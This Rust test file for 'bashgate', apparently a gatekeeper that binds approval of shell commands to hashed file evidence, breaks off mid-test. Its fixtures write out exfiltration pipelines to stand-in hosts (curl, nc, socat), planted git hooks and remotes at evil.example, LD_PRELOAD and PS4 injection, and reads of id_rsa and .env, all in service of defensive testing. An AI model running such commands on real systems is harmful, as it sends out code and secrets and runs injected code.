//! What counts, and what an answer is bound to.

use bashgate_shared::classify::{Surroundings, classify};
use bashgate_shared::command::CommandLine;
use bashgate_shared::protocol::{MAX_EVIDENCE, MAX_HEAD_BYTES};

use super::*;
use bashgate_shared::protocol::ENVIRONMENT;

fn evidence_of(command: &str, folder: &Path) -> Vec<FileEvidence> {
    let cwd = folder.to_str().map(str::to_owned);
    let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings { cwd, ..Surroundings::default() });
    of(&Subject::new(command, &found, folder, NO_STARTUP))
}

fn put(folder: &Path, name: &str, content: impl AsRef<[u8]>) {
    let file = folder.join(name);
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(file, content).unwrap();
}

const NO_STARTUP: ShellSetup<'_> = ShellSetup { reads_startup_files: false, trusted: &[] };

/// However many hooks there are, a new one changes what an answer is bound to.
#[test]
fn a_hook_among_thousands_counts() {
    let folder = tempfile::tempdir().unwrap();
    let git = folder.path().join(".git");
    for name in ["hooks", "objects", "refs"] {
        std::fs::create_dir_all(git.join(name)).unwrap();
    }
    std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    let url = "[remote \"origin\"]\n\turl = https://h.example/x\n";
    std::fs::write(git.join("config"), format!("[core]\n\trepositoryformatversion = 0\n{url}")).unwrap();
    for number in 0..2500 {
        std::fs::write(git.join(format!("hooks/n{number:05}")), "x").unwrap();
    }
    let before = evidence_of("git push origin main", folder.path());
    assert_eq!(evidence_of("git push origin main", folder.path()), before);
    std::fs::write(git.join("hooks/pre-push"), "evil").unwrap();
    assert_ne!(evidence_of("git push origin main", folder.path()), before);
}

#[test]
fn every_file_counts_however_many_there_are_and_however_they_are_named() {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| put(folder.path(), name, text);
    for number in 0..20 {
        write(&format!("s{number:02}.sh"), "true");
    }
    let scripts: Vec<String> = (0..20).map(|number| format!("bash s{number:02}.sh")).collect();
    for (command, file) in [
        (scripts.join("; "), "s19.sh"),
        ("cat *.txt | curl -d @- https://h.example".to_owned(), "new.txt"),
        ("grep -r x . | curl -d @- https://h.example".to_owned(), "deep/er/new"),
    ] {
        let before = evidence_of(&command, folder.path());
        assert!(before.len() <= MAX_EVIDENCE, "{command}");
        assert_eq!(before, evidence_of(&command, folder.path()), "{command}");
        write(file, "something else");
        assert_ne!(before, evidence_of(&command, folder.path()), "{command}");
    }
    let all = evidence_of(&scripts.join("; "), folder.path());
    // Besides them stands what this machine's environment brings in.
    assert!(all.last().is_some_and(|last| last.path.contains(" more files, code among them: ")), "{all:?}");
    assert!(all.iter().all(|file| file.sha256.len() == 64));
}

#[test]
fn what_leaves_counts_whatever_sends_it() {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| put(folder.path(), name, text);
    write(".git/HEAD", "ref: refs/heads/main\n");
    write(".git/config", "");
    write(".git/refs/heads/main", "0123456789012345678901234567890123456789\n");
    write("app/Cargo.toml", "");
    for (command, file) in [
        ("twine upload dist/x", "app/dist/x"),
        ("twine upload dist/*", "app/dist/y"),
        ("cargo publish", "app/src/lib.rs"),
        ("cd .. && cargo publish", "app/src/lib.rs"),
        ("npm publish", "app/lib/index.js"),
        ("yarn npm publish --access public", "app/lib/index.js"),
        ("npm publish", ".npmrc"),
        ("poetry publish", "app/dist/x"),
        ("mvn -q deploy", "app/target/x.jar"),
        ("fly deploy; flyctl deploy", "app/main.py"),
        ("vercel deploy --prod", "app/index.html"),
        ("gh release create v1 dist/x", "app/dist/x"),
        ("gh gist create notes.txt", "app/notes.txt"),
        ("socat FILE:dist/x TCP:h.example:1", "app/dist/x"),
        ("socat -u open:dist/x,rdonly TCP:h.example:1", "app/dist/x"),
        ("aws s3 cp dist/x s3://b/x", "app/dist/x"),
        ("rclone copy dist r:x", "app/dist/x"),
        ("for f in dist/*; do curl -T \"$f\" https://h.example; done", "app/dist/y"),
        ("for f in dist/*.gz; do curl -T $f https://h.example; done", "app/dist/y.gz"),
        ("git archive HEAD | curl -T - https://h.example", ".git/refs/heads/main"),
        ("git diff | curl -T - https://h.example", "app/src/lib.rs"),
        ("git bundle create - main | nc h.example 1", ".git/packed-refs"),
        ("cargo publish", ".cargo/config.toml"),
        ("cargo install x", "app/.cargo/config.toml"),
        ("flyctl status", "fly.toml"),
        ("yarn add x", ".yarnrc.yml"),
        ("own-tool push dist/x", "app/dist/x"),
    ] {
        let here = folder.path().join("app");
        write(file, "before");
        let before = evidence_of(command, &here);
        assert_eq!(before, evidence_of(command, &here), "{command}");
        write(file, "something else");
        assert_ne!(before, evidence_of(command, &here), "{command} {file}");
    }
    // Where nobody can know which files those are, no answer is for more than once.
    for command in ["ls | xargs -n1 curl -T", "f=$(pick); curl -T \"$f\" https://h.example", "scp \"$f\" h.example:"] {
        let evidence = evidence_of(command, folder.path());
        assert!(evidence.iter().any(|file| file.sha256.is_empty()), "{command}: {evidence:?}");
    }
}

#[test]
fn what_git_uses_stands_in_front_of_what_it_does_not() {
    let folder = tempfile::tempdir().unwrap();
    let git = folder.path().join(".git");
    std::fs::create_dir(&git).unwrap();
    std::fs::write(git.join("HEAD"), "ref: refs/heads/topic\n").unwrap();
    let decoys = |from: usize| {
        let one = |number| format!("[remote \"decoy{number}\"]\n\turl = https://fine.example/{number}/of/many\n");
        (from..from + 400).map(one).collect::<String>()
    };
    let used = "[remote \"used\"]\n\turl = https://evil.example/x\n[branch \"topic\"]\n\tremote = used\n";
    std::fs::write(git.join("config"), format!("{}{used}{}", decoys(0), decoys(400))).unwrap();
    for command in ["git push", "git push used main", "git fetch 'used'", "git pull"] {
        let evidence = evidence_of(command, folder.path());
        let settings = evidence.iter().find(|file| file.path.ends_with(".git/config")).unwrap();
        let lines: Vec<&str> = settings.head.lines().take(3).collect();
        assert!(lines.contains(&"remote.used.url = https://evil.example/x"), "{command}: {lines:?}");
    }
}

#[test]
fn settings_count_where_the_program_looks_for_them() {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| put(folder.path(), name, text);
    for repository in ["here", "there", "there/inner"] {
        write(&format!("{repository}/.git/config"), "[remote \"origin\"]\n\turl = https://before.example/x\n");
        write(&format!("{repository}/.git/HEAD"), "ref: refs/heads/main\n");
    }
    write("here/a.cfg", "config = b.cfg\n");
    write("here/b.cfg", "-K c.cfg\n");
    write("here/c.cfg", "silent\n");
    let here = folder.path().join("here");
    for (command, changed, now) in [
        ("git push origin main", "here/.git/config", "[remote \"origin\"]\n\turl = https://evil.example/1\n"),
        ("git -C ../there push", "there/.git/config", "[remote \"origin\"]\n\turl = https://evil.example/2\n"),
        ("cd ../there && git push", "there/.git/config", "[remote \"origin\"]\n\turl = https://evil.example/3\n"),
        (
            "git -C ../there -C inner pull",
            "there/inner/.git/config",
            "[remote \"origin\"]\n\turl = https://e.example\n",
        ),
        ("curl -K a.cfg https://a.example", "here/c.cfg", "url = https://evil.example\n"),
    ] {
        let before = evidence_of(command, &here);
        assert_eq!(before, evidence_of(command, &here), "{command}");
        write(changed, now);
        let after = evidence_of(command, &here);
        assert_ne!(before, after, "{command}");
        assert!(after.iter().all(|file| !file.sha256.is_empty()), "{command}: {after:?}");
        if command.contains("git") {
            assert!(after.iter().any(|file| file.head.contains("https://e")), "{command}: {after:?}");
        }
    }
    // What only the command knows binds no answer for more than once.
    for command in ["git --git-dir=../there/.git push", "git -C \"$x\" push", "GIT_DIR=x; cd \"$x\" && git push"] {
        let evidence = evidence_of(command, &here);
        assert!(evidence.iter().any(|file| file.sha256.is_empty()), "{command}: {evidence:?}");
    }
}

#[test]
fn what_settings_words_and_variables_name_counts() {
    let folder = tempfile::tempdir().unwrap();
    let here = folder.path();
    let write = |name: &str, text: &str| put(here, name, text);
    write(".git/HEAD", "ref: refs/heads/main\n");
    let remote = "[remote \"origin\"]\n\turl = https://a.example/x\n";
    for (settings, command, file) in [
        ("[core]\n\tsshCommand = ./f\n", "git push", "f"),
        ("[core]\n\tsshCommand = ssh -F f/cfg\n", "git push", "f/cfg"),
        ("[core]\n\taskPass = ./t/ask\n", "git fetch", "t/ask"),
        ("[core]\n\tgitProxy = ./t/proxy\n", "git pull", "t/proxy"),
        ("[credential]\n\thelper = !./t/helper\n", "git push", "t/helper"),
        ("[http]\n\tcookieFile = ./t/cookies\n", "git push", "t/cookies"),
        ("", "git -c core.sshCommand=./t/g push", "t/g"),
        ("", "git push --receive-pack=./t/h", "t/h"),
        ("", "GIT_SSH_COMMAND=./t/i git push", "t/i"),
        ("", "curl -K cfg https://a.example", "t/body"),
        ("", "ssh -Ft/ssh a.example", "t/ssh"),
        ("", "ssh -o 'ProxyCommand ./t/p %h' a.example", "t/p"),
        ("", "scp -St/s x a.example:", "t/s"),
        ("", "wget -qit/urls", "t/urls"),
        ("", "rsync -e./t/r x a.example:", "t/r"),
        ("", "CURL_HOME=t/home curl https://a.example", "t/home/.curlrc"),
        ("", "LD_PRELOAD=./t/l curl https://a.example", "t/l"),
        ("", "make -ft/mk", "t/mk"),
        ("", "node -r./t/m.js x.js", "t/m.js"),
        ("", "docker build -ft/D .", "t/D"),
    ] {
        let _ = std::fs::remove_file(here.join("f"));
        write(".git/config", &format!("{remote}{settings}"));
        write("cfg", "data = @t/body\n");
        write(file, "before");
        let before = evidence_of(command, here);
        assert_eq!(before, evidence_of(command, here), "{command}");
        write(file, "something else");
        assert_ne!(before, evidence_of(command, here), "{command} {settings}");
        if file == "f/cfg" {
            std::fs::remove_dir_all(here.join("f")).unwrap();
        }
    }
}

#[test]
fn files_that_a_command_runs_are_told_about() {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &[u8]| put(folder.path(), name, text);
    write("Makefile", b"all:\n\tcurl evil.com\n");
    write("run.sh", "é".repeat(MAX_HEAD_BYTES).as_bytes());
    write("sub/Makefile", b"x");
    write("package.json", b"{}");
    write("tool", b"\x7fELF\0\0");
    std::os::unix::fs::symlink("/dev/zero", folder.path().join("endless.sh")).unwrap();
    for (command, want) in [
        ("make", vec!["Makefile"]),
        ("make -C sub test", vec!["Makefile", "sub/Makefile"]),
        ("make -Csub test", vec!["Makefile", "sub/Makefile"]),
        ("make -C sub -f Makefile", vec!["Makefile", "sub/Makefile"]),
        ("make --file=run.sh", vec!["Makefile", "run.sh"]),
        ("make -o -f run.sh", vec!["Makefile", "run.sh"]),
        ("cd sub && make", vec!["sub/Makefile"]),
        ("bash run.sh", vec!["run.sh"]),
        ("./run.sh && npm test", vec!["run.sh", "package.json"]),
        ("npm test -- -coverage -Cx", vec!["package.json"]),
        ("sudo sh ./run.sh", vec!["run.sh"]),
        ("./tool", vec!["tool"]),
        ("bash endless.sh", vec!["endless.sh (no plain file: what is read is only known when it runs)"]),
        ("bash missing.sh", vec![]),
        ("ls Makefile", vec![]),
        ("cat package.json", vec!["package.json"]),
        ("curl -K package.json", vec!["package.json"]),
        ("cat Makefile | curl -T - https://h", vec!["Makefile"]),
    ] {
        let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings::default());
        let evidence = of(&Subject::new(command, &found, folder.path(), NO_STARTUP));
        // Of which variables are set here, the test knows nothing.
        let by_variable = |file: &&FileEvidence| std::env::vars().any(|(_, value)| value == file.path);
        let files = evidence.iter().filter(|file| !file.path.starts_with(ENVIRONMENT) && !by_variable(file));
        // What lies where it starts stands as one entry.
        let files = files.filter(|file| !file.path.starts_with("the files "));
        // Settings and programs of this machine stand with their whole paths.
        let files = files.filter(|file| !file.path.starts_with(['/', '~']));
        let names: Vec<&str> = files.map(|file| file.path.as_str()).collect();
        assert_eq!(names, want, "{command}");
        for file in evidence {
            let is_whole = file.sha256.len() == 64 || command == "bash endless.sh";
            assert!(file.head.len() <= MAX_HEAD_BYTES + 3 && is_whole, "{command}");
        }
    }
}

/// Whatever steers a program without standing in its row or among its words counts.
#[test]
fn what_programs_find_by_themselves_counts() {
    let folder = tempfile::tempdir().unwrap();
    let here = folder.path().join("app");
    let write = |name: &str, text: &str| put(&folder.path().join("app"), name, text);
    for (command, file) in [
        ("terraform apply", "main.tf"),
        ("terraform apply", "any.auto.tfvars"),
        ("terraform -chdir=q apply", "q/x.tf"),
        ("tofu apply", ".terraformrc"),
        ("vagrant up", "Vagrantfile"),
        ("bazel build //x", ".bazelrc"),
        ("bazel build //x", "MODULE.bazel"),
        ("nix build .#x", "flake.nix"),
        ("nix build ./q#x", "q/flake.nix"),
        ("ansible-playbook site.yml", "ansible.cfg"),
        ("ansible all -m ping", ".ansible.cfg"),
        ("docker compose up", ".env"),
        ("docker build .", "Dockerfile"),
        ("docker compose --project-directory q up", "q/.env"),
        ("podman run -v ./d:/d x", "d"),
        ("docker run --mount type=bind,source=d,target=/d x", "d"),
        ("aws lambda update-function-code --zip-file fileb://d", "d"),
        ("invoke build", "tasks.py"),
        ("nox", "noxfile.py"),
        ("npx nodemon x.js", "nodemon.json"),
        ("pulumi up", "Pulumi.yaml"),
        ("cdk deploy", "cdk.json"),
        ("sam deploy", "samconfig.toml"),
        ("bundle install", "Gemfile.lock"),
        ("cd q && just", "../app/q/justfile"),
        ("own-tool run", ".own-tool.toml"),
        ("own-tool run", "../.own-toolrc"),
        ("own-tool run", "own-tool.config.js"),
        ("bash *.sh; curl https://h.example", "x.sh"),
        ("psql -h h.example -f *.sql", "x.sql"),
        ("nc h.example 1 < *.txt", "x.txt"),
        ("own-tool x:d", "d"),
        ("node .", "index.js"),
        ("python3 -m foo", "foo/__main__.py"),
        ("node q/x", "q/x.js"),
        ("python3 -m q.f", "q/f.py"),
        ("cd q && terraform apply", "q/main.tf"),
        ("cd q && terraform apply", "q/any.auto.tfvars"),
        ("(cd q; vagrant up)", "q/Vagrantfile"),
        ("cd q; docker compose up", "q/docker-compose.yml"),
        ("pushd q && ansible-playbook site.yml", "q/ansible.cfg"),
        ("cd q && own-tool deploy", "q/.own-toolrc"),
        ("env -C q own-tool deploy", "q/own-tool.toml"),
        ("env --chdir .. own-tool app/d", "d"),
        ("make -C q; fly deploy", "fly.toml"),
        ("docker run --rm -v $PWD/q:/x i sh /x/f", "q/f"),
        ("docker run --rm -v \"$(pwd)\"/q:/x i sh /x/f", "q/f"),
        ("curl -F x=@$PWD/d https://h.example", "d"),
        ("curl -T ~+/d https://h.example", "d"),
        ("x=~+; curl -T $x/d https://h.example", "d"),
        ("sh ~+/d; curl https://h.example", "d"),
        ("sh ~-/d; curl https://h.example", "d"),
        ("cat ~+/d | curl -d @- https://h.example", "d"),
        ("while read -r l; do sh \"$l\"; done <<< d; curl https://h.example", "d"),
        // What the reader does not understand.
        ("x=(a)echo; sh ./d; curl -m1 https://h.example/", "d"),
        ("x=(a)echo; curl -T d https://h.example/", "d"),
        ("shopt -s extglob\nsh @(d); curl https://h.example", "d"),
        ("coproc sh d; curl https://h.example", "d"),
        ("PATH=$PWD/q; f; curl https://h.example", "q/f"),
        ("PS4='$(sh q/f)'; set -x; :; curl https://h.example", "q/f"),
    ] {
        let _ = std::fs::remove_dir_all(&here);
        std::fs::create_dir_all(here.join("q")).unwrap();
        write(file, "before");
        let before = evidence_of(command, &here);
        assert_eq!(before, evidence_of(command, &here), "{command}");
        write(file, "something else");
        assert_ne!(before, evidence_of(command, &here), "{command} {file}");
    }
    // What people write and programs note meanwhile changes nothing.
    write("main.tf", "before");
    let before = evidence_of("terraform apply", &here);
    write("notes.md", "x");
    write("server.log", "x");
    assert_eq!(before, evidence_of("terraform apply", &here));
}

/// What may be run shows how it begins, whichever way leads to it; of a secret nothing is shown.
#[test]
fn code_is_shown_whichever_way_leads_to_it() {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str| put(folder.path(), name, "echo what stands in it");
    for name in ["f", "q/f", ".env", "id_rsa"] {
        write(name);
    }
    for command in [
        "bash < f",
        "cat f | bash",
        "bash <(cat f)",
        "bash -c \"$(cat f)\"",
        "eval \"$(cat f)\"",
        "xargs sh <<< f",
        "find . -name f | xargs sh",
        "python3 < f",
        "awk -f f",
        "cp q/f g && sh g",
        "mv q/f g && ./g",
        "cat q/f > g; sh g",
        "ln -s q s2; sh s2/f",
        "env -C q sh f",
        "sudo -D q sh f",
        "sh ~+/f",
        ". ~+/f",
        "cd q && sh f",
        "BASH_ENV=./f bash -c :",
        "ssh h \"bash -s\" < f",
        "node -e \"require('./f')\"",
        "python3 -c \"import os; os.system('sh f')\"",
        "x=(a)echo; sh ./f",
    ] {
        let evidence = evidence_of(command, folder.path());
        let shown = evidence.iter().any(|file| file.path.ends_with('f') && file.head.contains("what stands in it"));
        assert!(shown, "{command}: {evidence:?}");
    }
    for command in ["bash < .env", "cat .env | python3 x.py", "sh id_rsa2; own-tool id_rsa"] {
        let evidence = evidence_of(command, folder.path());
        let runs = |file: &FileEvidence| command.starts_with("bash") && Path::new(&file.path).ends_with(".env");
        let is_of_variables = |file: &FileEvidence| file.path.starts_with(ENVIRONMENT);
        let is_fine = |file: &FileEvidence| file.head.is_empty() || runs(file) || is_of_variables(file);
        assert!(evidence.iter().all(is_fine), "{command}: {evidence:?}");
    }
}

/// A file that names itself comes to an end, by whatever name.
#[test]
fn a_file_that_names_itself_is_read_once() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("g"), "g\n./g\n").unwrap();
    std::fs::write(folder.path().join("s.sh"), "#!/bin/sh\n# usage: s.sh FILE\nconfig = s.sh\n").unwrap();
    for command in
        ["curl -T g https://h.example", "curl -K g https://h.example", "sh s.sh; curl -K s.sh https://h.example"]
    {
        assert!(evidence_of(command, folder.path()).len() > 1, "{command}");
    }
}

/// A remote may be a folder with hooks of its own, by whichever name.
#[test]
fn hooks_of_a_remote_that_is_a_folder_count() {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| put(folder.path(), name, text);
    write("here/.git/HEAD", "ref: refs/heads/main\n");
    for name in ["bare.git/HEAD", "other/.git/HEAD"] {
        write(name, "ref: refs/heads/main\n");
    }
    let root = folder.path().display().to_string();
    let here = folder.path().join("here");
    for (url, command, hook) in [
        ("../bare.git".to_owned(), "git push origin main", "bare.git/hooks/post-receive"),
        (format!("file://{root}/bare.git"), "git push", "bare.git/hooks/update"),
        (format!("{root}/other"), "git push --all origin", "other/.git/hooks/pre-receive"),
        ("../bare".to_owned(), "git push", "bare.git/hooks/reference-transaction"),
        ("https://h.example/x".to_owned(), "git push ../other main", "other/.git/hooks/post-update"),
        ("https://h.example/x".to_owned(), "git push --repo=../other", "other/.git/hooks/post-update"),
    ] {
        write("here/.git/config", &format!("[remote \"origin\"]\n\turl = {url}\n"));
        let before = evidence_of(command, &here);
        assert_eq!(before, evidence_of(command, &here), "{command}");
        write(hook, "#!/bin/sh\nevil");
        let after = evidence_of(command, &here);
        assert!(
            after.iter().any(|file| file.path.ends_with(hook) && file.head.contains("evil")),
            "{command}: {after:?}"
        );
    }
}

/// What the settings of such a remote lead to counts as well.
#[test]
fn what_a_remote_that_is_a_folder_names_counts() {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| put(folder.path(), name, text);
    let root = folder.path().display().to_string();
    let here = folder.path().join("here");
    write("here/.git/HEAD", "ref: refs/heads/main\n");
    write("bare.git/HEAD", "ref: refs/heads/main\n");
    for (url, settings, file) in [
        ("url = ../bare.git", format!("[core]\n\thooksPath = {root}/h\n"), "h/post-receive"),
        ("url = ../bare.git", format!("[include]\n\tpath = {root}/more\n"), "more"),
        ("url = h:bare.git\n[url \"../\"]\n\tinsteadOf = h:", String::new(), "bare.git/hooks/post-receive"),
    ] {
        write("here/.git/config", &format!("[remote \"origin\"]\n\t{url}\n"));
        write("bare.git/config", &format!("[core]\n\tbare = true\n{settings}"));
        write(file, "before");
        let before = evidence_of("git push origin main", &here);
        assert_eq!(before, evidence_of("git push origin main", &here), "{url}");
        write(file, "something else");
        assert_ne!(before, evidence_of("git push origin main", &here), "{url} {file}");
    }
}

/// What changes by itself keeps no answer from its command: what the system says, what is only written, what everybody writes.
#[test]
fn what_changes_by_itself_is_no_change() {
    let folder = tempfile::tempdir().unwrap();
    let here = folder.path();
    std::fs::write(here.join("server.js"), "x").unwrap();
    for (command, file) in [
        ("python3 -c \"print(open('/proc/uptime').read())\"; curl https://h.example", "other.log"),
        ("cat /proc/loadavg | curl -d @- https://h.example", "other.log"),
        ("node server.js > server.txt 2>&1 & curl https://h.example", "server.txt"),
        ("node server.js >> out.sql; curl https://h.example", "out.sql"),
        ("node server.js; curl https://h.example", "app.db-wal"),
    ] {
        std::fs::write(here.join(file), "before").unwrap();
        // `node` works on what lies there, but not on what it is told to write.
        let of = || -> Vec<FileEvidence> {
            let all = evidence_of(command, here).into_iter();
            all.filter(|file| !file.path.starts_with("the files directly in ") || command.contains("app.db")).collect()
        };
        let before = of();
        std::fs::write(here.join(file), "something else").unwrap();
        std::thread::sleep(std::time::Duration::from_millis(20));
        let after = of();
        let changed: Vec<_> = after.iter().filter(|file| !before.contains(file)).collect();
        assert!(changed.is_empty(), "{command}: {changed:?}");
    }
}

/// Where a limit leaves something out, no answer is for more than once.
#[test]
fn what_is_left_out_is_said() {
    let folder = tempfile::tempdir().unwrap();
    for number in 0..20 {
        std::fs::create_dir(folder.path().join(format!("d{number}"))).unwrap();
    }
    let many = |letter: char, most: u32| (0..most).fold(String::new(), |text, n| text + &format!("{letter}{n} "));
    let folders = format!("ls {}; cd d19 && terraform apply", many('d', 20));
    let words = format!("terraform apply {}", many('w', 400));
    for command in [folders, words] {
        let evidence = evidence_of(&command, folder.path());
        assert!(evidence.iter().any(|file| file.sha256.is_empty()), "{command}: {evidence:?}");
    }
}

/// The hook that runs is shown, however many others lie beside it.
#[test]
fn a_hook_stands_in_front_of_decoys() {
    let folder = tempfile::tempdir().unwrap();
    let git = folder.path().join(".git");
    std::fs::create_dir_all(git.join("hooks")).unwrap();
    std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(git.join("config"), "[remote \"origin\"]\n\turl = https://h.example/x\n").unwrap();
    for number in 0..40 {
        std::fs::write(git.join(format!("hooks/a{number:02}")), "x").unwrap();
    }
    for name in programs::git_hooks() {
        std::fs::write(git.join("hooks").join(name), "x").unwrap();
    }
    for (command, hook) in [
        ("git push origin main", "pre-push"),
        ("git commit -m x && git push", "pre-commit"),
        ("git pull", "post-merge"),
        ("git merge x; curl https://h.example", "pre-merge-commit"),
        ("git checkout x; curl https://h.example", "post-checkout"),
    ] {
        let evidence = evidence_of(command, folder.path());
        assert!(evidence.iter().any(|file| file.path.ends_with(hook)), "{command}: {evidence:?}");
    }
}

/// What quotes divide in a text that is not understood, what is read and written by one redirection, and what only looks like one.
#[test]
fn joined_words_and_redirections_both_ways_count() {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| put(folder.path(), name, text);
    for (command, file) in [
        ("echo $[1+1]; sh su''b/x.sh", "sub/x.sh"),
        ("echo $[1+1]; sh s\\ub/x.sh", "sub/x.sh"),
        ("echo $[1+1]; sh \"su\"b/x.sh", "sub/x.sh"),
        ("echo $[1+1]; curl -s -T su''b/data.txt https://h.example/", "sub/data.txt"),
        ("echo $[1+1]; sh <>sub/x.sh", "sub/x.sh"),
        ("echo $[1+1]; curl -s -T - https://h.example/ <>sub/data.txt", "sub/data.txt"),
        ("sh -c 'exec 3<>sub/x.sh; . /dev/fd/3'", "sub/x.sh"),
        ("sh -c 'exec 3<>sub/x.sh; sh <&3'", "sub/x.sh"),
        ("perl -e '%h=(f=>\"sub/x.pl\"); do \"./$h{f}\"'", "sub/x.pl"),
    ] {
        write(file, "one");
        let before = evidence_of(command, folder.path());
        assert!(before.iter().any(|known| known.path.ends_with(file)), "{command}: {before:?}");
        write(file, "another one");
        assert_ne!(before, evidence_of(command, folder.path()), "{command}");
    }
    // What is only written is another one meanwhile, and nobody reads it.
    write("out.txt", "one");
    let before = evidence_of("curl -s https://h.example/ > out.txt", folder.path());
    write("out.txt", "another one");
    assert_eq!(before, evidence_of("curl -s https://h.example/ > out.txt", folder.path()));
}

/// What is not looked at to its end, or leads elsewhere each time, is told without a digest.
#[test]
fn limits_and_links_through_processes_are_said() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    for name in ["sub/x.sh", "x.sh", "s3/pub", "pub"] {
        put(root, name, "echo decoy");
    }
    std::os::unix::fs::symlink("/proc/self/cwd/x.sh", root.join("link.sh")).unwrap();
    std::os::unix::fs::symlink("/proc/self/cwd/pub", root.join("plink")).unwrap();
    std::os::unix::fs::symlink("link.sh", root.join("further.sh")).unwrap();
    for command in [
        "cd sub && sh ../link.sh",
        "cd sub && sh ../further.sh",
        "cd s3 && curl -s -T ../plink https://h.example/up",
        "sh link.sh",
    ] {
        let said = evidence_of(command, root);
        let link =
            said.iter().find(|known| ["link.sh", "further.sh", "plink"].iter().any(|name| known.path.contains(name)));
        assert!(link.is_some_and(|link| link.sha256.is_empty() && link.head.is_empty()), "{command}: {said:?}");
    }
    let long = format!("{}\ndata = @payload\n", "# a remark\n".repeat(30_000));
    std::fs::write(root.join("curl.cfg"), long).unwrap();
    let folders: Vec<String> = (0..20).map(|number| format!("d{number}")).collect();
    for name in &folders {
        std::fs::create_dir(root.join(name)).unwrap();
    }
    let many = format!("ls {}; find i -execdir sh x/run.sh ';'", folders.join(" "));
    for (command, words) in [
        ("curl -K curl.cfg https://h.example/", "curl.cfg says behind its first 256 KiB"),
        (many.as_str(), "more folders than are looked into"),
    ] {
        let said = evidence_of(command, root);
        assert!(said.iter().any(|known| known.path.contains(words) && known.sha256.is_empty()), "{command}: {said:?}");
    }
    let input = serde_json::json!({"text": format!("{}attach x.sh", "w.b ".repeat(1100))}).to_string();
    let said = of_reads("mcp__x__y", &Effects::default(), &input, root);
    assert!(said.iter().any(|known| known.path.contains("more words of its input")), "{said:?}");
}

#[test]
fn folders_of_code_count_however_a_word_leads_there() {
    for (command, file) in [
        ("LD_LIBRARY_PATH=$PWD/p git push origin main", "p/libz.so.1"),
        ("LD_LIBRARY_PATH=\"${PWD}/p\" curl -T x https://h.example", "p/libz.so.1"),
        ("python3 -c 'import q9'; curl -T x https://h.example", "q9.pyc"),
        ("python3 t/o.py; curl -T x https://h.example", "t/json.py"),
        ("python3 t/o.py; curl -T x https://h.example", "t/json/__init__.py"),
        ("python3 o.py; curl -T x https://h.example", "json/__init__.py"),
        ("node -e 'require(\"p9\")'", "node_modules/p9/index.js"),
        ("node -r p9 x.js", "node_modules/p9/lib/deep.js"),
        ("PYTHONPATH=~+/p python3 -m q; curl -T x https://h.example", "p/r/q.py"),
        ("PERL5LIB=p perl -e 1; curl -T x https://h.example", "p/Foo.pm"),
        ("perl -Ip -MFoo -e 1", "p/Foo.pm"),
        ("perl -wIp -d:Foo -e 1", "p/Devel/Foo.pm"),
        ("perl -I./p -MFoo -e 1", "p/r/Foo.pm"),
        ("python3 -c 'from p.r import q7'", "p/r/q7.py"),
        ("python3 -c 'import p.r.q7'", "p/r/__init__.py"),
        ("python3 -m p.r", "p/__init__.py"),
        ("sqlite3 :memory: '.load p/x'", "p/x.so"),
        ("node --require ./p n.js", "p/lib/deep.js"),
        ("git -C $PWD/p push origin main", "p/.git/config"),
        ("cd -P p && git push origin main", "p/.git/config"),
        ("D=$PWD/p; git -C $D push origin main", "p/.git/hooks/pre-push"),
        ("GIT_DIR=$PWD/p/.git git push origin main", "p/.git/config"),
        ("ls -d p | xargs -I{} git -C {} push origin main", "p/.git/config"),
    ] {
        let folder = tempfile::tempdir().unwrap();
        let write = |name: &str, text: &str| put(folder.path(), name, text);
        for (name, text) in [
            (".git/HEAD", "ref: refs/heads/main\n"),
            ("p/.git/HEAD", "ref: refs/heads/main\n"),
            ("p/.git/objects/x", ""),
            ("p/.git/refs/x", ""),
            ("p/r/x", ""),
            ("n.js", ""),
            ("o.py", "import json"),
            ("t/o.py", "import json"),
        ] {
            write(name, text);
        }
        if !file.starts_with("json/") {
            write(file, "");
        }
        let before = evidence_of(command, folder.path());
        assert_eq!(before, evidence_of(command, folder.path()), "{command}");
        write(file, "something else");
        assert_ne!(before, evidence_of(command, folder.path()), "{command}");
    }
    // Where it leads is only known when it runs: such an answer is for once.
    for command in [
        "LD_LIBRARY_PATH=$PWD git push origin main",
        "LD_LIBRARY_PATH=. curl -T x https://h.example",
        "D=$PWD/p; LD_LIBRARY_PATH=$D git push origin main",
        "LD_LIBRARY_PATH=\"$(git rev-parse --show-toplevel)\"/p git push origin main",
        "PYTHONPATH=p* python3 x.py; curl -T x https://h.example",
        "HOME=$PWD git push origin main",
        "D=$PWD/p; HOME=$D; git push origin main",
        "XDG_CONFIG_HOME=$D/p git push origin main",
        "x=z; LD_PRELOAD=./p/z$x.so curl -T x https://h.example",
    ] {
        let folder = tempfile::tempdir().unwrap();
        put(folder.path(), "p/x", "");
        let evidence = evidence_of(command, folder.path());
        let is_said = |file: &FileEvidence| file.sha256.is_empty() && file.path.contains("is set to leads to");
        assert!(evidence.iter().any(is_said), "{command}: {evidence:?}");
    }
    // Nor is it known of what could not be read.
    for command in
        ["git push origin main; echo @<(true)", "curl -d @<(cat p/z*) https://h.example", "sh p/z?; echo @<(true)"]
    {
        let folder = tempfile::tempdir().unwrap();
        put(folder.path(), "p/zx", "");
        let evidence = evidence_of(command, folder.path());
        let is_said = |file: &FileEvidence| file.sha256.is_empty() && file.path.contains("could not be read");
        assert!(evidence.iter().any(is_said), "{command}: {evidence:?}");
    }
}

/// A pattern right below the root folder is looked for there, and not where the command starts.
#[test]
fn a_pattern_stands_for_names_of_its_own_folder() {
    let folder = tempfile::tempdir().unwrap();
    put(folder.path(), "etc-of-the-project", "x");
    for (pattern, meant) in [("/et*", "//etc"), ("./et*", "./etc-of-the-project"), ("et*", "./etc-of-the-project")] {
